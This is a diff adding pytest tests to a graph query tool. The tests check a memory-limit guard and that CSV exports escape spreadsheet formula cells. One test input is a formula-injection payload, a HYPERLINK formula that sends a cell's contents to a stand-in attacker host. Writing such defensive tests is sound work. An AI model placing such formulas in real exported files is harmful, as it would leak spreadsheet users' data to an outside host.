@@ -80,6 +80,35 @@ def test_a_huge_answer_is_refused_by_the_row_guard():
     clean_error(r, "more than 1,000 rows", "--max-rows")
 
 
+def test_a_query_that_outgrows_its_memory_is_stopped():
+    r = run_kg("query", CROSS, "--max-rows", "0", "--max-memory-mb", "100", "--timeout", "0", "--seeds", MINI,
+               timeout=120)
+    clean_error(r, "more than the 100 MB", "--max-memory-mb")
+    assert r.stderr.count("\n") == 2
+
+
+def test_ordinary_queries_run_under_the_default_memory_limit():
+    r = run_kg("query", "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }", "-f", "json", "--seeds", MINI, timeout=60)
+    assert r.returncode == 0 and '"n"' in r.stdout, r.stderr
+
+
+@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1+2", "-3+cmd", "@SUM(A1)",
+                                  "\tx", "'=x"])
+def test_csv_answers_neutralise_formula_cells(cell):
+    import csv
+    import io
+
+    from graph.exports.spreadsheet import restore
+
+    literal = cell.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
+    q = f'SELECT ?text ?n WHERE {{ BIND("{literal}" AS ?text) BIND(-2 AS ?n) }}'
+    r = run_kg("query", q, "-f", "csv", "--seeds", MINI, timeout=60)
+    assert r.returncode == 0, r.stderr
+    [header, row] = list(csv.reader(io.StringIO(r.stdout)))
+    assert row[0].startswith("'") and row[0][1:2] in "=+-@\t'" and restore(row[0]) == cell
+    assert row[1] == "-2"  # a number stays a number
+
+
 def test_deep_nesting_is_refused_before_the_engine(tmp_path):
     (tmp_path / "deep.rq").write_text(DEEP)
     r = run_kg("query", tmp_path / "deep.rq", "--seeds", MINI, timeout=60)
